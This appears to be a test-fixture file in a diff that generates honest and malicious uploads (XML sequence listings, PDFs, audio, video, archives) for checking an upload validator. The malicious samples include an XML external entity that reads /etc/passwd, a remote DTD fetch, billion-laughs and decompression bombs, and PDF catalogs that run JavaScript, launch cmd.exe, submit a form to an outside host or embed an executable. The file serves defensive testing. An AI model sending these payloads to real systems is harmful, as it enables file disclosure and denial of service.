@@ -1,0 +1,140 @@
+import { deflateSync } from 'node:zlib'
+
+import { EXTRA, pdfFile } from './uploadFiles.ts'
+
+/** Files made to deceive, to break, or to keep a server busy; and honest ones beside them. */
+
+const head = '<?xml version="1.0" encoding="UTF-8"?>\n'
+const publicDoctype =
+  '<!DOCTYPE ST26SequenceListing PUBLIC "-//WIPO//DTD Sequence Listing 1.3//EN" "ST26SequenceListing_V1_3.dtd">\n'
+const listing = (inside = '') =>
+  `<ST26SequenceListing dtdVersion="V1_3" fileName="a.xml" softwareName="WIPO Sequence" softwareVersion="2.3.0" productionDate="2026-01-05">
+  <ApplicantName languageCode="id">Sari Wulandari</ApplicantName><SequenceTotalQuantity>1</SequenceTotalQuantity>${inside}
+</ST26SequenceListing>\n`
+
+export const sequences = {
+  honest: Buffer.from(head + publicDoctype + listing()),
+  withoutDoctype: Buffer.from(head + listing()),
+  withMark: Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(head + listing())]),
+  externalEntity: Buffer.from(
+    `${head}<!DOCTYPE ST26SequenceListing [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n${listing('&x;')}`,
+  ),
+  remoteDefinition: Buffer.from(
+    `${head}<!DOCTYPE ST26SequenceListing SYSTEM "http://contoh.example/evil.dtd">\n${listing()}`,
+  ),
+  publicAndOwn: Buffer.from(
+    `${head}<!DOCTYPE ST26SequenceListing PUBLIC "-//WIPO//DTD Sequence Listing 1.3//EN" "ST26SequenceListing_V1_3.dtd" [<!ENTITY a "aa">]>\n${listing()}`,
+  ),
+  billionLaughs: Buffer.from(
+    `${head}<!DOCTYPE ST26SequenceListing [<!ENTITY a "ha">${Array.from({ length: 9 }, (_, i) => `<!ENTITY a${i} "${`&a${i - 1 < 0 ? '' : i - 1};`.repeat(10)}">`).join('')}]>\n${listing('&a8;')}`,
+  ),
+  undeclaredEntity: Buffer.from(head + listing('&nbsp;')),
+  wrongRoot: Buffer.from(`${head}<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`),
+  notClosed: Buffer.from(head + listing().slice(0, 200)),
+  deep: Buffer.from(head + listing('<a>'.repeat(5000) + '</a>'.repeat(5000))),
+  notUtf8: Buffer.concat([Buffer.from(`${head}<ST26SequenceListing>`), Buffer.from([0xff, 0xfe, 0x41])]),
+  latin1: Buffer.from(`<?xml version="1.0" encoding="ISO-8859-1"?>${listing()}`),
+  twoRoots: Buffer.from(head + listing() + listing()),
+}
+
+/** An MP3 of `frames` frames of 128 kbit/s at 44.1 kHz, after a tag. */
+export function mp3(frames = 20): Buffer {
+  const frame = Buffer.alloc(417)
+  frame.set([0xff, 0xfb, 0x90, 0x00])
+  const tag = Buffer.concat([Buffer.from('ID3\x04\x00\x00\x00\x00\x00\x0a', 'latin1'), Buffer.alloc(10)])
+  return Buffer.concat([tag, ...Array.from({ length: frames }, () => frame)])
+}
+
+export function wav(samples = 8000): Buffer {
+  const format = Buffer.alloc(24)
+  format.write('fmt ', 0, 'latin1')
+  format.writeUInt32LE(16, 4)
+  format.writeUInt16LE(1, 8)
+  format.writeUInt16LE(1, 10)
+  format.writeUInt32LE(8000, 12)
+  format.writeUInt32LE(8000, 16)
+  format.writeUInt16LE(1, 20)
+  format.writeUInt16LE(8, 22)
+  const data = Buffer.concat([chunkHead('data', samples), Buffer.alloc(samples, 128)])
+  return Buffer.concat([chunkHead('RIFF', 4 + format.length + data.length), Buffer.from('WAVE'), format, data])
+}
+
+function chunkHead(name: string, length: number): Buffer {
+  const bytes = Buffer.alloc(8)
+  bytes.write(name, 0, 'latin1')
+  bytes.writeUInt32LE(length, 4)
+  return bytes
+}
+
+export function mp4(
+  brand = 'isom',
+  boxes: [string, number][] = [
+    ['moov', 200],
+    ['mdat', 4000],
+  ],
+): Buffer {
+  const box = (name: string, body: Buffer) => {
+    const bytes = Buffer.alloc(8)
+    bytes.writeUInt32BE(8 + body.length, 0)
+    bytes.write(name, 4, 'latin1')
+    return Buffer.concat([bytes, body])
+  }
+  return Buffer.concat([
+    box('ftyp', Buffer.from(`${brand}\0\0\x02\0${brand}`, 'latin1')),
+    ...boxes.map(([name, size]) => box(name, Buffer.alloc(size))),
+  ])
+}
+
+/** An archive as it ends every zip, docx and jar. */
+export const zip = Buffer.concat([
+  Buffer.from('PK\x03\x04hello', 'latin1'),
+  Buffer.from('PK\x05\x06', 'latin1'),
+  Buffer.alloc(18),
+])
+export const word = Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(600)])
+
+/** A page whose text unpacks to `size` bytes; a viewer that opens it runs out of room. */
+export function textBomb(size: number): Buffer {
+  return streamed('/Filter /FlateDecode', deflateSync(Buffer.alloc(size, 32)))
+}
+
+/** A picture of impossible size inside a small PDF. */
+export function hugePicturePdf(): Buffer {
+  return streamed(
+    '/Type /XObject /Subtype /Image /Width 60000 /Height 60000 /BitsPerComponent 8 /ColorSpace /DeviceRGB /Filter /FlateDecode',
+    deflateSync(Buffer.alloc(1000)),
+  )
+}
+
+/** Packed twice, so that the first unpacking shows nothing. */
+export function twicePackedPdf(): Buffer {
+  const packed = deflateSync(deflateSync(Buffer.alloc(1_000_000)))
+  return streamed('/Filter [ /FlateDecode /FlateDecode ]', packed)
+}
+
+function streamed(dictionary: string, packed: Buffer): Buffer {
+  return pdfFile({
+    extra: [`<< ${dictionary} /Length ${packed.length} >>\nstream\n${packed.toString('latin1')}\nendstream`],
+  })
+}
+
+export function objectBomb(count: number): Buffer {
+  const objects = '9 0 obj\n'.repeat(count)
+  const file = pdfFile()
+  return Buffer.concat([file.subarray(0, 9), Buffer.from(objects), file.subarray(9)])
+}
+
+/** What a catalog may tell a viewer to do. */
+export const opens = {
+  page: pdfFile({ catalog: '/OpenAction [3 0 R /Fit]' }),
+  script: pdfFile({ catalog: '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>' }),
+  program: pdfFile({ catalog: '/OpenAction << /S /Launch /F (cmd.exe) >>' }),
+  otherFile: pdfFile({ catalog: '/OpenAction << /S /GoToR /F (lain.pdf) /D [0 /Fit] >>' }),
+  form: pdfFile({ catalog: `/AcroForm << /XFA ${EXTRA} 0 R >>`, extra: ['<< /Length 0 >>\nstream\n\nendstream'] }),
+  submits: pdfFile({ catalog: '/OpenAction << /S /SubmitForm /F (http://contoh.example) >>' }),
+  onPrint: pdfFile({ catalog: '/AA << /WP << /S /JavaScript /JS (1) >> >>' }),
+  attachment: pdfFile({
+    catalog: '/AF [<< /Type /Filespec /F (a.exe) /EF << /F 4 0 R >> >>]',
+    extra: ['<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream'],
+  }),
+}
